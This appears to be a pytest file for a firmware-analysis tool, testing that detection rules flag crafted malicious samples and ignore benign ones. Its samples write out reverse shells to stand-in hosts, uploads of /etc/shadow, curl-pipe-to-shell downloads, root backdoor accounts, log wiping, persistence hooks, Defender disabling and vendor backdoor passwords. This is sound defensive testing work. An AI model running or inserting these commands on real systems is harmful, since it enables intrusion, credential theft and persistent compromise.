"""Every shipped rule finds what it is for and leaves its neighbour alone.

The texts are written for these tests; nothing here is malware.
"""

from __future__ import annotations

import pytest

from fwverify.analyse.rulefile import read_rules
from fwverify.analyse.rules import RuleSet, describe_rules
from fwverify.analyse.windows import Extracted
from fwverify.analyse.yara import match
from tests.analyse.conftest import RULES

ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\0"
PE = b"MZ" + bytes(62)
SH = b"#!/bin/sh\n"


def wide(text: str) -> bytes:
    return bytes(16) + text.encode("utf-16-le") + bytes(8)


KEY = b"A" * 43 + b"="

# rule, contents it must find, contents it must leave alone.
CASES: tuple[tuple[str, tuple[bytes, ...], tuple[bytes, ...]], ...] = (
    (
        "tunnel_frp",
        (
            b"[common]\nserver_addr = relay.invalid\nserver_port = 7000\n",
            b'serverAddr = "relay.invalid"\nserverPort = 7000\nremotePort = 6000\n',
            ELF + b"github.com/fatedier/frp/client.(*Service).Run",
        ),
        (b"[common]\nname = x\nserver_port = 7000\n", b"server_addr = a.b\nserver_port = 1\n"),
    ),
    (
        "tunnel_go_reverse_client",
        (ELF + b"golang.ngrok.com/ngrok/internal", PE + b"github.com/jpillora/chisel/client.New"),
        (b"see golang.ngrok.com/ngrok/ for the library", ELF + b"github.com/jpillora/backoff"),
    ),
    (
        "tunnel_ssh_reverse",
        (
            b"\nautossh -M 0 -fN -R 2222:localhost:22 u@relay.invalid\n",
            SH + b"ssh -i /etc/k -NR 0.0.0.0:2222:127.0.0.1:22 u@h &\n",
        ),
        (b"ssh -L 8080:localhost:80 host\n", b"ssh -R\n", b"# ssh [-R address]\n"),
    ),
    (
        "tunnel_wireguard_profile",
        (
            b"[Interface]\nPrivateKey = " + KEY + b"\n[Peer]\nPublicKey = x\n"
            b"Endpoint = relay.invalid:51820\n",
        ),
        (b"[Interface]\nAddress = 10.0.0.2\n[Peer]\nEndpoint = relay.invalid:51820\n",),
    ),
    (
        "tunnel_openvpn_profile",
        (b"client\ndev tun\nremote vpn.invalid 1194\n<ca>\n",),
        (b"client\ndev tun\n# remote vpn.invalid 1194\n<ca>\n", b"remote vpn.invalid 1194\n"),
    ),
    (
        "tunnel_gsocket",
        (b"GSOCKET_SECRET=x gs-netcat -l -i", b"GSOCKET_SECRET gsocket.io"),
        (b"gs-netcat", b"GSOCKET_SECRET=x"),
    ),
    (
        "tunnel_oray",
        (b"CloudSail\0csclient\0", b"api.zhexi.tech"),
        (b"CloudSail", b"phtunnel"),
    ),
    (
        "tunnel_dns_iodine",
        (ELF + b"iodine IP over DNS tunneling client",),
        (b"iodine IP over DNS tunneling client", ELF + b"iodined\0topdomain\0"),
    ),
    (
        "remote_telnetd_launch",
        (
            SH + b"start)\n    /usr/sbin/telnetd -l /bin/sh -p 2323 &\n",
            SH + b"telnetd\n",
            SH + b"[ -x /usr/sbin/telnetd ] && busybox telnetd &\n",
            ELF + b"\0telnetd -l /bin/sh\0",
            ELF + b"\0system\0/bin/busybox telnetd\0",
            SH + b"start-stop-daemon -S -b -x /usr/sbin/telnetd\n",
        ),
        (
            SH + b"# telnetd is gone\nkillall telnetd\n",
            SH + b'echo "no telnetd here"\n',
            ELF + b"telnetd [OPTIONS]\0telnetd\0",
            ELF + b"\0system\0no telnetd\0telnetd\0",
            ELF + b"\0/usr/sbin/telnetd\0",
            SH + b"start-stop-daemon -K -x /usr/sbin/telnetd\n",
        ),
    ),
    (
        "remote_telnetd_server",
        (ELF + b"telnetd\0/bin/login\0/dev/ptmx\0",),
        (ELF + b"telnetd\0/bin/login\0", b"telnetd\0/bin/login\0/dev/ptmx\0"),
    ),
    (
        "remote_reverse_shell_script",
        (
            b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            b"exec 5<>/dev/tcp/relay.invalid/443",
            b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc relay.invalid 1 > /tmp/f",
        ),
        (b"/dev/tcp is a bash feature", b"mkfifo /tmp/f; cat /tmp/f\n", b"bash -i"),
    ),
    (
        "remote_netcat_shell",
        (b"nc -l -p 4444 -e /bin/sh", b"socat TCP-LISTEN:99,fork EXEC:/bin/bash,pty"),
        (b"nc -l -p 4444", b"nc -z host 22; sh x", b"socat - TCP:host:80"),
    ),
    (
        "remote_web_terminal",
        (ELF + b"ttyd\0libwebsockets\0--writable\0", ELF + b"shellinaboxd\0VT100.js"),
        (ELF + b"ttyd\0--writable\0", b"ttyd libwebsockets --writable"),
    ),
    (
        "remote_vnc_server",
        (ELF + b"rfbGetScreen\0", ELF + b"RFB 003.008\nx11vnc\0"),
        (ELF + b"RFB 003.008\n", b"RFB 003.008\nx11vnc"),
    ),
    (
        "remote_desktop_service",
        (
            PE + wide("AnyDesk") + wide("relay-1.net.anydesk.com"),
            b"TeamViewer\0router7.teamviewer.com\0",
            "向日葵".encode() + b"\0slrc.oray.com",
            wide("向日葵") + b"slrc.oray.com",
        ),
        (b"TeamViewer\0", b"relay.net.anydesk.com", b"slrc.oray.com"),
    ),
    (
        "remote_known_magic",
        (b"xmlset_roodkcableoj28840ybtide", b"OpenTelnet:OpenOnce"),
        (b"xmlset_", b"OpenTelnet", b"scfgmgr", b"ScMM\0"),
    ),
    (
        "creds_documented_accounts",
        (b"zyfwp:PrOw!aN_fXp", b"xc3511\0vizxv\0"),
        (b"zyfwp", b"xc3511"),
    ),
    (
        "creds_password_set",
        (
            b"echo root:letmein1 | chpasswd\n",
            b"echo 'root:letmein1' | /usr/sbin/chpasswd\n",
            b'printf "letmein1\\nletmein1" | passwd root',
            b"usermod -p '$6$saltsalt$abcdefgh' root",
        ),
        (b'echo "root:$NEW" | chpasswd\n', b"echo hello | cat\n", b"usermod -L root"),
    ),
    (
        "creds_uid0_added",
        (b"echo 'svc::0:0::/:/bin/sh' >> /etc/passwd\n", b"useradd -o -u 0 svc\n"),
        (b"echo 'svc:x:200:200::/:/bin/false' >> /etc/passwd\n", b"useradd -u 0700 svc\n"),
    ),
    (
        "creds_in_url",
        (
            b"url=https://pump:Tr0ub4dor@feed.invalid/x\n",
            b"rtsp://op3rator:hunter22@10.0.0.7:554/1",
        ),
        (b"https://user:password@proxy.net/\n", b"https://host.invalid/a:b@c\n"),
    ),
    (
        "exfil_telegram_bot",
        (
            b"https://api.telegram.org/bot123456789:" + b"A" * 35 + b"/x",
            SH + b"curl https://api.telegram.org/bot$TOKEN/sendDocument",
        ),
        (b"api.telegram.org/bot", SH + b"https://telegram.org/sendMessage"),
    ),
    (
        "exfil_nfs_public",
        (b"mount -o nolock -t nfs 198.51.100.9:/data /mnt\n",),
        (
            b"mount -t nfs 10.1.2.3:/data /mnt\n",
            b"mount -t nfs 192.168.2.3:/data /mnt\n",
            b"mount -t nfs server:/data /mnt\n",
        ),
    ),
    (
        "exfil_upload_files",
        (
            b"curl -F file=@/etc/shadow https://in.invalid/\n",
            b"wget --post-file=/etc/passwd http://in.invalid/\n",
            b"tar cz /var/log | nc in.invalid 99\n",
        ),
        (b"curl -O https://in.invalid/etc/shadow.txt\n", b"tar cz /usr | gzip\n"),
    ),
    (
        "exfil_cloud_key",
        (b"AKIAABCDEFGHIJKLMNOP bucket.s3.amazonaws.com",),
        (b"AKIAIOSFODNN7EXAMPLE bucket.s3.amazonaws.com", b"AKIAABCDEFGHIJKLMNOP"),
    ),
    (
        "update_download_exec",
        (
            SH + b"curl -s https://in.invalid/x.sh | sh\n",
            SH + b"wget http://in.invalid/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n",
            ELF + b'sh -c "$(curl -fsSL https://in.invalid/x)"\0',
            ELF + b"wget -O /tmp/x.tgz http://%s/x\0tar xzf /tmp/x.tgz && sh /tmp/x/run.sh\0",
        ),
        (
            SH + b"curl -s https://in.invalid/x | jq .\n",
            SH + b"wget http://in.invalid/x -O /tmp/x\n",
            SH + b"curl https://in.invalid/a > f; cat f | grep sh\n",
        ),
    ),
    (
        "update_no_verify",
        (SH + b"wget --no-check-certificate https://in.invalid/f\nsysupgrade /tmp/f\n",),
        (
            SH + b"wget --no-check-certificate https://in.invalid/f\n",
            SH + b"curl -k https://in.invalid/f\nsha256sum -c f\nsysupgrade f\n",
        ),
    ),
    (
        "update_thirdparty_fota",
        (b"com.adups.fota.sysoper", wide("bigdata.adups.com")),
        (b"com.vendor.fota", b"adups"),
    ),
    (
        "modem_apn",
        (b'AT+CGDCONT=1,"IP","net"\r\0ATD*99***1#\r', b"AT+CGDCONT=1\0AT+QIACT=1"),
        (b"AT+CGDCONT=1", b"ATD*99#"),
    ),
    (
        "modem_sms_command",
        (b"AT+CNMI=2,1\0AT+CMGR=1\0fuel cut\0", b"AT+CNMI=2\0AT+CMGL=4\0RELAY,1#\0"),
        (b"AT+CNMI=2,1\0AT+CMGR=1\0", b"AT+CMGR=1\0fuel cut\0", b"fuel cutter"),
    ),
    (
        "modem_tcp_socket",
        (b'AT+QIOPEN=1,0,"TCP","in.invalid",80', b"AT+CIPOPEN=0"),
        (b"AT+QIOPEN", b"AT+CIPSTATUS"),
    ),
    (
        "can_inject_script",
        (b"cansend can0 123#DEADBEEF\n", b"cangen -g 1 can0\n"),
        (b"cansend <device> <frame>\n", b"candump can0\n"),
    ),
    (
        "can_remote_bridge",
        (
            SH + b"mosquitto_sub -h in.invalid -t x | while read f; do cansend can0 $f; done\n",
            b"cannelloni -I can0 -R in.invalid",
        ),
        (SH + b"cansend can0 123#00\n", SH + b"mosquitto_sub -h in.invalid | logger\n"),
    ),
    (
        "diag_uds_services",
        (
            (
                b"SecurityAccess RoutineControl RequestDownload TransferData "
                b"DiagnosticSessionControl TesterPresent"
            ),
        ),
        (b"SecurityAccess TransferData TesterPresent", b"TransferDataSet"),
    ),
    (
        "veh_immobilise_command",
        (b"mqtt/engine_stop\0", b"cmd_fuel_cut\0", wide("remote_immobilizer")),
        (b"hv_kill\0", b"engine_stopped\0", b"immobilise\0"),
    ),
    (
        "veh_geofence_lock",
        (b"geofence_check\0lock_train\0", b"point_in_polygon\0inverter_blocked\0"),
        (b"geofence_check\0", b"point_in_polygon\0block_size\0"),
    ),
    (
        "meter_disconnect_control",
        (
            bytes.fromhex("12004611010906000560030aff"),
            bytes.fromhex("120046110009060000 60030aff".replace(" ", "")),
            bytes.fromhex("4600000060030aff") + bytes(8),
            b"disconnect_control: remote_disconnect executed\0",
            b"0.0.96.3.10.255\0remote_disconnect\0",
        ),
        (
            bytes.fromhex("120003110009060100010800ff"),
            bytes.fromhex("000060030aff"),
            b"disconnect_controller\0",
            b"remote_disconnect\0",
        ),
    ),
    (
        "meter_disconnect_name",
        (b"0-0:96.3.10.255\0", b"remote_disconnect\0"),
        (b"0-0:96.1.0.255\0", b"disconnected remotely\0"),
    ),
    (
        "meter_limiter",
        (bytes.fromhex("12004711000906000011000 0ff".replace(" ", "")),),
        (bytes.fromhex("110000ff"), bytes.fromhex("120048110009060000110000ff")),
    ),
    (
        "meter_push",
        (bytes.fromhex("120028110009060000190900ff"),),
        (bytes.fromhex("190900ff"), bytes.fromhex("120029110009060000190900ff")),
    ),
    (
        "surv_video_stream",
        (b"ffmpeg -i /dev/video0 -f rtsp rtsp://in.invalid/x", b"/dev/video0\0rtmp://in.invalid/"),
        (b"/dev/video0\0", b"ffmpeg -i in.mp4 out.mp4"),
    ),
    (
        "surv_audio_record",
        (SH + b"arecord -f cd -t wav | nc in.invalid 1\n",),
        (SH + b"aplay x.wav\n", b"arecord(1)"),
    ),
    (
        "surv_keylog",
        (b"/dev/input/event0\0keylogger\0", b"<CapsLk>\0<LShft>\0"),
        (b"/dev/input/event0\0", b"keylogger\0"),
    ),
    (
        "surv_location_upload",
        (b"$GPRMC\0lat=%f\0curl_easy_perform\0",),
        (b"$GPRMC\0lat=%f\0", b"lat=%f\0curl_easy_perform\0"),
    ),
    (
        "evade_packed_upx",
        (
            ELF + b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $",
            ELF + bytes(100) + b"UPX!\x0d\x0c",
            PE + b"UPX0" + bytes(4) + b"UPX1" + bytes(4),
        ),
        (
            b"This file is packed with the UPX executable packer",
            ELF + b"UPX!zz",
            PE + b"UPX0\0\0\0\0",
        ),
    ),
    (
        "evade_log_wipe",
        (SH + b"rm -rf /var/log/*\n", SH + b"> /var/log/wtmp\n", SH + b"unset HISTFILE\n"),
        (SH + b"rm -f /var/log/app/old.log\n", SH + b"echo x >> /var/log/messages\n"),
    ),
    (
        "evade_antidebug",
        (ELF + b"TracerPid:\0/proc/self/status\0ptrace\0gdb\0",),
        (ELF + b"TracerPid:\0/proc/self/status\0", b"TracerPid:\0/proc/self/status\0ptrace\0gdb\0"),
    ),
    (
        "evade_vm_check",
        (ELF + b"VMwareVMware\0KVMKVMKVM\0XenVMMXenVMM\0",),
        (ELF + b"VMwareVMware\0KVMKVMKVM\0",),
    ),
    (
        "persist_ld_preload",
        (b"echo /lib/x.so > /etc/ld.so.preload\n", b"\nexport LD_PRELOAD=/tmp/x.so\n"),
        (b"/etc/ld.so.preload\0", b"\nLD_PRELOAD=/usr/lib/libjemalloc.so\n"),
    ),
    (
        "persist_cron_write",
        (SH + b"(crontab -l; echo '* * * * * /x') | crontab -\n", SH + b"echo a >> /etc/crontab\n"),
        (SH + b"crontab -l\n", SH + b"cat /etc/crontab\n"),
    ),
    (
        "persist_init_write",
        (SH + b"echo /x \\& >> /etc/rc.local\n", SH + b"sed -i '1a/x' /etc/rc.local\n"),
        (SH + b"cat /etc/rc.local\n", b"echo /x >> /etc/rc.local\n"),
    ),
    (
        "persist_udev_run",
        (b'ACTION=="add", RUN+="/bin/sh -c \'x\'"\n', b'KERNEL=="sd*", RUN+="/media/x"\n'),
        (b'ACTION=="add", RUN+="/usr/bin/logger x"\n', b'RUN+="/bin/sh -c x"\n'),
    ),
    (
        "win_encoded_powershell",
        (
            b"powershell.exe -nop -w hidden -enc " + b"QUFB" * 12,
            wide("powershell -EncodedCommand " + "QUFB" * 12),
            b"IEX (New-Object Net.WebClient).DownloadString('x')",
        ),
        (b"powershell -File x.ps1", b"powershell -enc short"),
    ),
    (
        "win_defender_off",
        (
            b"Set-MpPreference -DisableRealtimeMonitoring $true",
            wide("netsh advfirewall set allprofiles state off"),
        ),
        (b"Set-MpPreference -DisableRealtimeMonitoring $false", b"netsh advfirewall show"),
    ),
    (
        "win_user_add",
        (b"net user svc Passw0rd! /add\r\nnet localgroup administrators svc /add\r\n",),
        (b"net user svc Passw0rd! /add\r\n", b"net localgroup administrators\r\n"),
    ),
    (
        "win_rdp_enable",
        (
            b'reg add "HKLM\\x\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
            wide("fDenyTSConnections") + wide("netsh advfirewall firewall set rule remote desktop"),
        ),
        (b"fDenyTSConnections /d 1", b"netsh advfirewall localport=443"),
    ),
    (
        "key_public_test",
        (b"CN=DO NOT TRUST - AMI Test PK", b"Snake Oil CA"),
        (b"DO NOT TRUST", b"android@android.com"),
    ),
    (
        "key_trust_added",
        (
            SH + b"cp x.crt /usr/local/share/ca-certificates/\nupdate-ca-certificates\n",
            wide("certutil -f -addstore root x.cer"),
        ),
        (SH + b"update-ca-certificates\n", b"certutil -addstore my x.cer"),
    ),
    (
        "key_verification_off",
        (b"option check_signature 0\n", b"deb [trusted=yes] http://in.invalid/ x\n"),
        (b"option check_signature\n", b"deb https://in.invalid/ x\n"),
    ),
)


def names(rules: RuleSet, content: bytes) -> set[str]:
    hits, troubles = match(content, rules.bundle(), Extracted(()), 20)
    assert troubles == ()
    return {hit.rule for hit in hits}


@pytest.mark.parametrize(("rule", "wanted", "unwanted"), CASES, ids=[case[0] for case in CASES])
def test_a_rule_finds_its_own_and_nothing_else(
    rules: RuleSet, rule: str, wanted: tuple[bytes, ...], unwanted: tuple[bytes, ...]
) -> None:
    for content in wanted:
        assert rule in names(rules, content), content
    for content in unwanted:
        assert rule not in names(rules, content), content


def test_every_rule_has_a_positive_and_a_negative_case() -> None:
    """The families' own folders hold the cases of the rules that are not here."""
    tried = {rule for rule, wanted, unwanted in CASES if wanted and unwanted}
    assert tried <= {entry.name for entry in describe_rules((RULES,))}


def test_a_name_alone_is_never_high(rules: RuleSet) -> None:
    content = ELF + b"telnetd\0sshd\0frpc\0ngrok\0TeamViewer\0AnyDesk\0openvpn\0can0\0geofence\0"
    hits, _ = match(content, rules.bundle(), Extracted(()), 20)
    assert [hit.rule for hit in hits if hit.severity in ("high", "critical")] == []


def test_thirteen_families_with_two_rules_or_more() -> None:
    counts = {file.stem: len(read_rules(file.read_text())) for file in RULES.glob("*.yar")}
    assert len(counts) == 13
    assert min(counts.values()) >= 2


@pytest.mark.parametrize(
    "content",
    [
        PE + wide("An ordinary program with an ordinary text."),
        SH + b"set -e\nip link set eth0 up\nudhcpc -i eth0\nsyslogd\n",
        ELF + b"socket\0connect\0/etc/resolv.conf\0usage: %s [-v]\0",
        bytes(4096),
        b"\xff" * 4096,
        b"",
    ],
    ids=["pe", "script", "elf", "zeros", "ones", "empty"],
)
def test_ordinary_content_is_left_alone(rules: RuleSet, content: bytes) -> None:
    assert names(rules, content) == set()


@pytest.mark.parametrize(
    ("content", "evidence"),
    [
        (SH + b"a; telnetd -l /bin/sh\n", {"telnetd -l /"}),
        (wide("AnyDesk") + wide("x.net.anydesk.com"), {"AnyDesk", ".net.anydesk.com"}),
        (bytes.fromhex("12004611010906000560030aff"), {"12004611..090600..60030aff"}),
    ],
    ids=["text", "utf-16", "bytes"],
)
def test_evidence_is_text_or_hexadecimal(
    rules: RuleSet, content: bytes, evidence: set[str]
) -> None:
    hits, _ = match(content, rules.bundle(), Extracted(()), 20)
    assert {text for hit in hits for text in hit.evidence} == evidence
